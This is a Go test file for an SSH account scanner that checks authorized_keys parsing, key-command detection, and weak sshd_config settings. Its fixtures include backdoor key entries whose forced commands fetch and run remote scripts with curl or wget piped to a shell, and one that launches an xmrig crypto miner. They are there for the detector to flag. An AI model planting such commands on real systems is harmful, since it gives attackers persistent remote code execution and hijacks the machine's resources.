package checks

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/minerguard/minerguard/internal/findings"
)

// testKey returns an ssh-ed25519 public key text and its fingerprint.
func testKey(seed byte) (string, string) {
	blob := binary.BigEndian.AppendUint32(nil, 11)
	blob = append(blob, "ssh-ed25519"...)
	blob = binary.BigEndian.AppendUint32(blob, 32)
	for i := 0; i < 32; i++ {
		blob = append(blob, seed+byte(i))
	}
	sum := sha256.Sum256(blob)
	return "ssh-ed25519 " + base64.StdEncoding.EncodeToString(blob), "SHA256:" + base64.RawStdEncoding.EncodeToString(sum[:])
}

func TestParseAuthorizedKey(t *testing.T) {
	k, fp := testKey(1)
	tests := []struct {
		line    string
		opts    []string
		comment string
		err     string
	}{
		{k + " alice@laptop", nil, "alice@laptop", ""},
		{`command="echo \"hi\", there",no-pty ` + k + " x y", []string{`command=echo "hi", there`, "no-pty"}, "x y", ""},
		{`from="10.0.0.0/8" ` + k, []string{`from=10.0.0.0/8`}, "", ""},
		{`command="unterminated ` + k, nil, "", "no key after options"},
		{"ssh-ed25519 !!!notbase64", nil, "", "not base64"},
		{"ssh-rsa " + strings.Fields(k)[1], nil, "", "does not match"},
		{"no-pty", nil, "", "no key after options"},
		{"no-pty foo bar", nil, "", "unknown key type"},
	}
	for _, tc := range tests {
		got, err := ParseAuthorizedKey(tc.line)
		if tc.err != "" {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%q: err %v, want %q", tc.line, err, tc.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tc.line, err)
			continue
		}
		if got.Fingerprint != fp || got.Comment != tc.comment || strings.Join(got.Options, "|") != strings.Join(tc.opts, "|") {
			t.Errorf("%q: got %+v", tc.line, got)
		}
		if strings.Contains(got.Summary(), strings.Fields(k)[1]) {
			t.Errorf("summary carries the key: %s", got.Summary())
		}
	}
}

func TestSSHKeys(t *testing.T) {
	k1, fp1 := testKey(1)
	k2, _ := testKey(50)
	passwd := "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ngit:x:998:998::/home/git:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\n"
	tests := []struct {
		name  string
		tree  map[string]string
		modes map[string]os.FileMode
		want  []string // rule/severity/path:line
		warn  string
		refs  string // key_command URL, domain, paths
	}{
		{name: "normal keys", tree: map[string]string{"root/.ssh/authorized_keys": k1 + " admin@host\n", "home/alice/.ssh/authorized_keys": "# mine\n" + k2 + " alice\n",
			"home/git/.ssh/authorized_keys": `command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-1",no-port-forwarding ` + k2 + "\n"},
			want: []string{"accounts.ssh.keys/info//home/alice/.ssh/authorized_keys:0", "accounts.ssh.keys/info//home/git/.ssh/authorized_keys:0", "accounts.ssh.keys/info//root/.ssh/authorized_keys:0"}},
		{name: "download command", tree: map[string]string{"root/.ssh/authorized_keys": `command="curl -fsSL http://198.51.100.7/x.sh|sh" ` + k1 + " x\n"},
			want: []string{"accounts.ssh.key_command/high//root/.ssh/authorized_keys:1", "accounts.ssh.keys/info//root/.ssh/authorized_keys:0"},
			refs: "http://198.51.100.7/x.sh 198.51.100.7 "},
		{name: "miner command in keys2", tree: map[string]string{"home/alice/.ssh/authorized_keys2": "\n" + `command="/tmp/xmrig -o stratum+tcp://pool.example:3333" ` + k1 + "\n"},
			want: []string{"accounts.ssh.key_command/high//home/alice/.ssh/authorized_keys2:2", "accounts.ssh.keys/info//home/alice/.ssh/authorized_keys2:0"},
			refs: "stratum+tcp://pool.example:3333 pool.example /tmp/xmrig"},
		{name: "system account key", tree: map[string]string{"var/www/.ssh/authorized_keys": k1 + "\n"},
			want: []string{"accounts.ssh.system_key/medium//var/www/.ssh/authorized_keys:0"}},
		{name: "world-writable", tree: map[string]string{"home/alice/.ssh/authorized_keys": k1 + "\n"}, modes: map[string]os.FileMode{"home/alice/.ssh/authorized_keys": 0o666, "home/alice/.ssh": 0o777},
			want: []string{"accounts.ssh.keys/info//home/alice/.ssh/authorized_keys:0", "accounts.ssh.writable/medium//home/alice/.ssh/authorized_keys:0", "accounts.ssh.writable/medium//home/alice/.ssh:0"}},
		{name: "AuthorizedKeysFile and sshd weaknesses", tree: map[string]string{
			"etc/ssh/sshd_config":               "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nMaxAuthTries 10\nMatch User alice\n  PasswordAuthentication yes\n",
			"etc/ssh/sshd_config.d/50-bad.conf": "PermitRootLogin yes\nPermitEmptyPasswords yes\nInclude /etc/ssh/sshd_config\n",
			"etc/ssh/keys/alice":                `restrict,command="wget -q -O- http://203.0.113.9/m | bash" ` + k1 + "\n"},
			want: []string{"accounts.ssh.key_command/high//etc/ssh/keys/alice:1", "accounts.ssh.keys/info//etc/ssh/keys/alice:0",
				"accounts.sshd.max_auth_tries/info//etc/ssh/sshd_config:4", "accounts.sshd.password_authentication/info//etc/ssh/sshd_config:6",
				"accounts.sshd.permit_empty_passwords/low//etc/ssh/sshd_config.d/50-bad.conf:2", "accounts.sshd.permit_root_login/low//etc/ssh/sshd_config.d/50-bad.conf:1"},
			warn: "Include loop"},
		{name: "malformed key line", tree: map[string]string{"home/alice/.ssh/authorized_keys": "garbage here\n" + k1 + "\n"},
			want: []string{"accounts.ssh.keys/info//home/alice/.ssh/authorized_keys:0"}, warn: "/home/alice/.ssh/authorized_keys:1: want key type and key"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			tc.tree["etc/passwd"] = passwd
			writeTree(t, root, tc.tree)
			for p, m := range tc.modes {
				if err := os.Chmod(filepath.Join(root, p), m); err != nil {
					t.Fatal(err)
				}
			}
			for p := range tc.tree {
				if _, ok := tc.modes[p]; !ok && strings.Contains(p, "authorized_keys") {
					_ = os.Chmod(filepath.Join(root, p), 0o600)
				}
			}
			fs, err := runFile(t, offlineEnv(t, root, time.Now()), "accounts.ssh")
			if tc.warn != "" {
				if err == nil || !strings.Contains(err.Error(), tc.warn) {
					t.Fatalf("warning %v, want %q", err, tc.warn)
				}
			} else if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range fs {
				got = append(got, f.Rule+"/"+f.Severity.String()+"/"+f.Evidence.Path+":"+strconv.Itoa(f.Evidence.Line))
				if strings.HasPrefix(f.Rule, "accounts.sshd.") != (f.Signal == findings.SignalHardening) {
					t.Fatalf("%s signal %s", f.Rule, f.Signal)
				}
				all := f.Evidence.Content + strings.Join(f.Evidence.Match, " ")
				if strings.Contains(all, strings.Fields(k1)[1]) || strings.Contains(all, strings.Fields(k2)[1]) {
					t.Fatalf("full key in evidence: %s", all)
				}
				if f.Rule == "accounts.ssh.key_command" && !strings.Contains(f.Evidence.Content, fp1) {
					t.Fatalf("no fingerprint in %q", f.Evidence.Content)
				}
				if f.Rule == "accounts.ssh.key_command" && tc.refs != "" {
					if r := f.Evidence.URL + " " + f.Evidence.Domain + " " + strings.Join(f.Evidence.Paths, ","); r != tc.refs {
						t.Fatalf("refs %q want %q", r, tc.refs)
					}
				}
			}
			sort.Strings(got)
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
				t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(tc.want, "\n"))
			}
		})
	}
}

func FuzzParseAuthorizedKey(f *testing.F) {
	k, _ := testKey(3)
	f.Add(`command="a,b",no-pty ` + k + " c")
	f.Add(`"` + k)
	f.Fuzz(func(t *testing.T, s string) {
		if k, err := ParseAuthorizedKey(s); err == nil && !strings.HasPrefix(k.Fingerprint, "SHA256:") {
			t.Fatalf("no fingerprint: %+v", k)
		}
		for _, d := range ParseSSHDConfig(s, "f") {
			if d.Line < 1 || d.Key == "" {
				t.Fatalf("bad directive %+v", d)
			}
		}
	})
}
